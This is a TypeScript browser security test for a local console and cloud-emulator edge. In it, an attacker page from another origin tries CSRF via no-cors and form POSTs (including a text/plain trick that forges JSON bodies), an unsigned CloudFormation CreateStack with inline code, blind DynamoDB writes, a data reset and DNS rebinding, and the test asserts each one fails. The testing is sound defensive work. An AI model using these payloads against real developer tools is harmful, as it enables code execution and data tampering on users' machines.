/**
 * Another web page the developer has open attacks the console and the embedded cloud's edge,
 * in the real headless Chromium (Debian's, driven by playwright-core): the attacker's page is
 * served from another origin (`http://evil.localhost:<port>`, a server of this test), sends
 * what a browser lets any page send (no-cors simple requests, HTML forms, CORS requests with
 * their preflights), then reports to its own server that it is done, and only then does the
 * test check, through its own clients, that nothing happened. DNS rebinding is real too:
 * Chromium resolves evil.test to 127.0.0.1 (--host-resolver-rules), so a page of evil.test
 * on the console's or the edge's port is same-origin with it as far as the browser knows.
 */
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CloudFormationClient, DescribeStacksCommand, type Stack } from '@aws-sdk/client-cloudformation';
import { DeleteItemCommand, DynamoDBClient, GetItemCommand } from '@aws-sdk/client-dynamodb';
import { ListQueuesCommand, SQSClient } from '@aws-sdk/client-sqs';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LeadershipClient } from '../../client/lambda-client.js';
import { pollUntil } from '../../client/poll.js';
import { asLeadershipOutputs, type LeadershipStackOutputs } from '../../client/stack-outputs.js';
import { startLocalCloud, type LocalCloud } from '../../localcloud/index.js';
import { useDummyCredentialsIfUnset } from '../../tools/local-env.js';
import { repoRoot } from '../../tools/synth.js';
import { startConsoleServer, type ConsoleServer } from '../../web/server.js';
import { testClientConfig } from '../../localcloud/testing/aws.js';
import { launchChromium, requireChromium, synthesizeStack, type Browser } from './support.js';

const stackName = 'PartitionLeadership';
const sessionTimeoutMs = 6000;
const heartbeatIntervalMs = 1000;
const assemblyDir = join(repoRoot, '.localcloud', 'cdk.out.cross-origin');
/** The console's own broker, which the attacker tries to kill, and the topic it tries to write. */
const victimBroker = 'V';
const victimTopic = 'victim';

let cloud: LocalCloud;
let outputs: LeadershipStackOutputs;
let client: LeadershipClient;
let server: ConsoleServer;
let attacker: AttackerSite;
let browser: Browser;
let page: Page;
let markerDir: string;
let edgePort: number;
let consolePort: number;

/**
 * The attacker's own web server: `/attack/<scenario>` is a page whose script attacks, then
 * posts what it could see to `/done/<scenario>`. `/gate/<name>` holds the page until the test
 * opens it, and `/step/<name>` tells the test how far the page got.
 */
class AttackerSite {
  readonly results = new Map<string, Record<string, string>>();
  readonly steps = new Set<string>();
  private readonly gates = new Map<string, { open: boolean; waiting: ServerResponse[] }>();
  private readonly server: Server;
  origin = '';

  constructor(private readonly scripts: Record<string, string>) {
    this.server = createServer((request, response) => void this.serve(request, response));
  }

  async start(): Promise<void> {
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    // *.localhost is loopback to Chromium, and another site than 127.0.0.1.
    this.origin = `http://evil.localhost:${(this.server.address() as AddressInfo).port}`;
  }

  stop(): Promise<void> {
    this.server.closeAllConnections();
    return new Promise((resolve) => this.server.close(() => resolve()));
  }

  open(gate: string): void {
    const state = this.gate(gate);
    state.open = true;
    for (const response of state.waiting.splice(0)) response.end('go');
  }

  private gate(name: string) {
    let state = this.gates.get(name);
    if (!state) this.gates.set(name, (state = { open: false, waiting: [] }));
    return state;
  }

  private async serve(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const [, kind, name] = /^\/(attack|done|gate|step)\/([\w-]+)$/.exec(request.url ?? '') ?? [];
    if (kind === 'attack' && this.scripts[name]) {
      response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      response.end(`<!doctype html><title>a page the developer happens to have open</title><body><script type="module">${this.scripts[name]}</script></body>`);
      return;
    }
    if (kind === 'gate') {
      const state = this.gate(name);
      if (state.open) response.end('go');
      else state.waiting.push(response);
      return;
    }
    const chunks: Buffer[] = [];
    for await (const chunk of request) chunks.push(chunk as Buffer);
    if (kind === 'done') this.results.set(name, JSON.parse(Buffer.concat(chunks).toString('utf8') || '{}') as Record<string, string>);
    else if (kind === 'step') this.steps.add(name);
    else response.statusCode = 404;
    response.end();
  }
}

/** What every attack page shares: where to aim, how to note what a request let the page see, how to finish. */
function attackScript(targets: { console: string; edge: string }, body: string): string {
  return `
const C = ${JSON.stringify(targets.console)};
const E = ${JSON.stringify(targets.edge)};
const scenario = location.pathname.split('/').pop();
const seen = {};
const sig = (service) => 'AWS4-HMAC-SHA256 Credential=x/20261207/us-east-1/' + service + '/aws4_request, SignedHeaders=host, Signature=0';
/** fetch, noting what the page could see: "opaque" for no-cors, "status N: body" when CORS let it read. */
async function attempt(name, url, init) {
  try {
    const response = await fetch(url, init);
    seen[name] = response.type === 'opaque' ? 'opaque' : 'status ' + response.status + ': ' + (await response.text()).slice(0, 500);
  } catch (error) {
    seen[name] = 'unreadable: ' + error.message;
  }
}
/** A real HTML form posted into a frame; the frame's load says the answer has come. */
function submitForm(name, url, enctype, fields) {
  return new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = 'frame-' + name;
    document.body.append(frame);
    frame.addEventListener('load', () => { seen[name] = 'form answered'; resolve(); }, { once: true });
    const form = document.createElement('form');
    form.method = 'POST';
    form.action = url;
    form.enctype = enctype;
    form.target = frame.name;
    for (const [field, value] of fields) {
      const input = document.createElement('input');
      input.type = 'hidden';
      input.name = field;
      input.value = value;
      form.append(input);
    }
    document.body.append(form);
    form.submit();
  });
}
const step = (name) => fetch('/step/' + name, { method: 'POST' });
const gate = (name) => fetch('/gate/' + name);
try {
${body}
} catch (error) {
  seen.error = String(error);
}
await fetch('/done/' + scenario, { method: 'POST', body: JSON.stringify(seen) });
`;
}

const text = (body: unknown) => ({ method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: JSON.stringify(body) });

/** Inline code (CloudFormation ZipFile) that proves it ran on the developer's machine by writing a file. */
function h1Template(markerFile: string): string {
  const code = `exports.handler = async () => { require('fs').writeFileSync(${JSON.stringify(markerFile)}, 'written by a function deployed from another origin'); return 'ran'; };`;
  return JSON.stringify({
    Resources: { Fn: { Type: 'AWS::Lambda::Function', Properties: { FunctionName: 'poc-browser', Runtime: 'nodejs20.x', Handler: 'index.handler', Role: 'r', Code: { ZipFile: code } } } },
  });
}

function scripts(targets: { console: string; edge: string }, markerFile: string): Record<string, string> {
  const js = JSON.stringify;
  const forms = (body: Record<string, unknown>) =>
    // enctype text/plain sends `name=value`: a name that opens a JSON object and a value that closes it make the body JSON.
    `[[${js(JSON.stringify(body).slice(0, -1) + ',"x":"')}, '"}']]`;
  return {
    console: attackScript(
      targets,
      `
await attempt('start-text', C + '/api/brokers', ${js(text({ brokerId: 'EVIL1' }))});
await attempt('start-urlencoded', C + '/api/brokers', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: ${js(JSON.stringify({ brokerId: 'EVIL2' }))} });
await submitForm('start-form', C + '/api/brokers', 'text/plain', ${forms({ brokerId: 'EVIL3' })});
await attempt('topic-text', C + '/api/topics', ${js(text({ topic: 'evil-topic', partitions: 1, replicationFactor: 1 }))});
await submitForm('topic-form', C + '/api/topics', 'text/plain', ${forms({ topic: 'evil-form-topic', partitions: 1, replicationFactor: 1 })});
await attempt('produce-text', C + '/api/produce', ${js(text({ topic: victimTopic, partition: 1, records: 'k:written-by-evil' }))});
await submitForm('produce-form', C + '/api/produce', 'text/plain', ${forms({ topic: victimTopic, partition: 1, records: 'k:written-by-evil-form' })});
await attempt('kill-text', C + '/api/brokers/${victimBroker}/kill', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '' });
await submitForm('kill-form', C + '/api/brokers/${victimBroker}/kill', 'application/x-www-form-urlencoded', []);
`,
    ),
    h1: attackScript(
      targets,
      `
await attempt('create-stack', E + '/', { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded', Authorization: sig('cloudformation') },
  body: new URLSearchParams({ Action: 'CreateStack', StackName: 'poc-browser', TemplateBody: ${js(h1Template(markerFile))} }) });
await step('h1-create-stack-sent');
await gate('h1-invoke');
await attempt('invoke', E + '/2015-03-31/functions/poc-browser/invocations', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '{}' });
`,
    ),
    'h2-invoke': attackScript(
      targets,
      `
await attempt('invoke-produce', E + '/2015-03-31/functions/' + ${js(outputs.ProduceFunctionName)} + '/invocations',
  ${js(text({ topic: victimTopic, partition: 1, records: [{ key: 'c', value: 'from-another-origin' }] }))});
`,
    ),
    'h2-read': attackScript(
      targets,
      `
await attempt('sqs-list-queues', E + '/', { method: 'POST', headers: { 'Content-Type': 'application/x-amz-json-1.0', 'X-Amz-Target': 'AmazonSQS.ListQueues', Authorization: sig('sqs') }, body: '{}' });
await attempt('moto-data', E + '/moto-api/data.json', {});
`,
    ),
    'h2-putitem': attackScript(
      targets,
      `
await attempt('put-broker', E + '/', { method: 'POST', headers: { 'Content-Type': 'application/x-amz-json-1.0', 'X-Amz-Target': 'DynamoDB_20120810.PutItem', Authorization: sig('dynamodb') },
  body: JSON.stringify({ TableName: ${js(outputs.BrokersTableName)}, Item: { brokerId: { S: 'EVIL' }, deadlineMs: { N: '9999999999999' } } }) });
`,
    ),
    'h2-reset': attackScript(
      targets,
      `
await attempt('moto-reset', E + '/moto-api/reset', { method: 'POST', mode: 'no-cors', headers: { 'Content-Type': 'text/plain' }, body: '' });
`,
    ),
  };
}

/** Opens the attacker's page for `scenario` and waits for it to say it has sent everything. */
async function attack(scenario: string): Promise<Record<string, string>> {
  attacker.results.delete(scenario);
  await page.goto(`${attacker.origin}/attack/${scenario}`);
  return pollUntil(() => attacker.results.get(scenario), { timeoutMs: 60_000, intervalMs: 50, description: `the attacker's page to finish ${scenario}` });
}

/** What a rebinding page reads: the target as evil.test (which Chromium resolves to 127.0.0.1), its own origin then. */
async function rebound(port: number, navigateTo: string, sameOriginGets: string[]): Promise<{ navigation: number; body: string; gets: Record<string, number> }> {
  const response = await page.goto(`http://evil.test:${port}${navigateTo}`);
  const body = (await response?.text()) ?? '';
  const gets = await page.evaluate(async (paths) => {
    const statuses: Record<string, number> = {};
    for (const path of paths) {
      const abort = new AbortController();
      // The headers are enough: the event stream never ends.
      const answer = await fetch(path, { signal: abort.signal });
      statuses[path] = answer.status;
      abort.abort();
    }
    return statuses;
  }, sameOriginGets);
  return { navigation: response?.status() ?? 0, body, gets };
}

async function consoleAction(path: string, body: unknown): Promise<unknown> {
  const response = await fetch(new URL(path, server.url), {
    method: 'POST',
    headers: { 'content-type': 'application/json', 'x-console-token': String(server.token) },
    body: JSON.stringify(body),
  });
  return response.json();
}

async function highWatermark(): Promise<number> {
  const topic = (await client.describe()).topics.find((candidate) => candidate.topic === victimTopic);
  return topic!.partitions.find((partition) => partition.Partition === 1)!.HighWatermark;
}

beforeAll(async () => {
  requireChromium();
  useDummyCredentialsIfUnset();
  await synthesizeStack(assemblyDir, sessionTimeoutMs);
  cloud = await startLocalCloud({ port: 0, assemblyDir, ttlPeriodMs: 0, region: 'us-east-1' });
  edgePort = Number(new URL(cloud.endpoint).port);
  outputs = asLeadershipOutputs(stackName, cloud.stacks.find((stack) => stack.stackName === stackName)?.outputs);
  client = new LeadershipClient(outputs, { endpoint: cloud.endpoint, region: 'us-east-1' });
  server = await startConsoleServer({ endpoint: cloud.endpoint, outputs, sessionTimeoutMs, heartbeatIntervalMs, port: 0, pollIntervalMs: 250 });
  consolePort = server.port;

  // The console's own page starts the victim broker, which leads the victim topic.
  expect(await consoleAction('/api/brokers', { brokerId: victimBroker })).toMatchObject({ ok: true });
  await client.createTopic({ topic: victimTopic, partitions: 1, replicationFactor: 1 });

  markerDir = mkdtempSync(join(tmpdir(), 'cross-origin-marker-'));
  attacker = new AttackerSite(scripts({ console: `http://127.0.0.1:${consolePort}`, edge: `http://127.0.0.1:${edgePort}` }, join(markerDir, 'ran-from-another-origin.txt')));
  await attacker.start();

  // DNS rebinding without a DNS server: evil.test's address is loopback.
  browser = await launchChromium({ extraArgs: ['--host-resolver-rules=MAP evil.test 127.0.0.1'] });
  page = browser.page;
});

afterAll(async () => {
  await browser?.close();
  await attacker?.stop();
  await server?.stop();
  client?.close();
  await cloud?.stop();
  if (markerDir) rmSync(markerDir, { recursive: true, force: true });
});

describe('the console, attacked by a page of another origin', () => {
  it('takes no action from no-cors text/plain and form POSTs: no broker started or killed, no topic, no record', async () => {
    const actions = () => server.monitor.snapshot().timeline.filter((entry) => entry.kind === 'action').map((entry) => entry.text);
    const actionsBefore = actions();
    const seen = await attack('console');
    expect(Object.keys(seen)).toEqual(['start-text', 'start-urlencoded', 'start-form', 'topic-text', 'topic-form', 'produce-text', 'produce-form', 'kill-text', 'kill-form']);

    const cluster = await client.describe();
    expect(cluster.brokers.map((broker) => broker.brokerId)).toEqual([victimBroker]);
    expect(server.simulator.list().map((broker) => [broker.id, broker.status])).toEqual([[victimBroker, 'running']]);
    expect(cluster.topics.map((topic) => topic.topic)).toEqual([victimTopic]);
    expect(await highWatermark()).toBe(0);
    expect(actions()).toEqual(actionsBefore);
  });

  it('refuses a DNS-rebound page (Host evil.test): 403 for the page and its token, /api/state and the event stream', async () => {
    const seen = await rebound(consolePort, '/', ['/api/state', '/api/stream']);
    expect(seen.body).not.toContain(String(server.token));
    expect(seen).toEqual({ navigation: 403, body: expect.stringContaining('refused: the Host header'), gets: { '/api/state': 403, '/api/stream': 403 } });
  });
});

describe('the edge, attacked by a page of another origin', () => {
  let cloudformation: CloudFormationClient;
  let dynamodb: DynamoDBClient;
  let sqs: SQSClient;

  beforeAll(() => {
    cloudformation = new CloudFormationClient(testClientConfig(cloud.endpoint));
    dynamodb = new DynamoDBClient(testClientConfig(cloud.endpoint));
    sqs = new SQSClient(testClientConfig(cloud.endpoint));
  });
  afterAll(() => {
    cloudformation?.destroy();
    dynamodb?.destroy();
    sqs?.destroy();
  });

  const stackOf = (name: string): Promise<Stack | undefined> =>
    cloudformation.send(new DescribeStacksCommand({ StackName: name })).then((answer) => answer.Stacks?.[0], () => undefined);

  it('H1: an unsigned CreateStack with an inline function, then a no-cors invoke, creates no stack and runs nothing', async () => {
    const markerFile = join(markerDir, 'ran-from-another-origin.txt');
    const done = attack('h1');
    await pollUntil(() => attacker.steps.has('h1-create-stack-sent'), { timeoutMs: 30_000, description: 'the attacker to send CreateStack' });
    // Should the stack have been created, let the page invoke it only once its function exists, as a patient attacker would.
    if (await stackOf('poc-browser')) {
      await pollUntil(async () => !/IN_PROGRESS$/.test((await stackOf('poc-browser'))?.StackStatus ?? ''), { timeoutMs: 60_000, description: 'the attacker\'s stack to settle' });
    }
    attacker.open('h1-invoke');
    const seen = await done;
    expect(Object.keys(seen)).toEqual(['create-stack', 'invoke']);
    expect({ stack: (await stackOf('poc-browser'))?.StackStatus, codeRan: existsSync(markerFile) }).toEqual({ stack: undefined, codeRan: false });
  });

  it('H2: a no-cors invoke of the Produce function writes nothing', async () => {
    const seen = await attack('h2-invoke');
    expect(Object.keys(seen)).toEqual(['invoke-produce']);
    expect(await highWatermark()).toBe(0);
  });

  it('H2: the page cannot read SQS ListQueues or moto\'s data through CORS', async () => {
    const seen = await attack('h2-read');
    expect(seen['sqs-list-queues']).toMatch(/^unreadable: /);
    expect(seen['moto-data']).toMatch(/^unreadable: /);
  });

  it('H2: a blind DynamoDB PutItem of a brokers-table item is not written', async () => {
    const key = { brokerId: { S: 'EVIL' } };
    try {
      const seen = await attack('h2-putitem');
      expect(Object.keys(seen)).toEqual(['put-broker']);
      expect((await dynamodb.send(new GetItemCommand({ TableName: outputs.BrokersTableName, Key: key, ConsistentRead: true }))).Item).toBeUndefined();
    } finally {
      // A malformed broker item stops every heartbeat: never leave it for the tests after this one.
      await dynamodb.send(new DeleteItemCommand({ TableName: outputs.BrokersTableName, Key: key }));
    }
  });

  it('refuses a DNS-rebound page (Host evil.test): 403 for the Lambda API and moto\'s data', async () => {
    const seen = await rebound(edgePort, '/2015-03-31/functions/', ['/moto-api/data.json']);
    expect(seen.body).not.toContain(outputs.ProduceFunctionName);
    expect({ navigation: seen.navigation, gets: seen.gets }).toEqual({ navigation: 403, gets: { '/moto-api/data.json': 403 } });
  });

  // Last: on an unprotected edge it deletes every queue.
  it('H2: a no-cors POST to /moto-api/reset leaves the queues', async () => {
    const seen = await attack('h2-reset');
    expect(Object.keys(seen)).toEqual(['moto-reset']);
    const queues = (await sqs.send(new ListQueuesCommand({}))).QueueUrls ?? [];
    expect(queues.map((url) => url.split('/').pop())).toContain(outputs.LeadershipEventsQueueUrl.split('/').pop());
  });
});
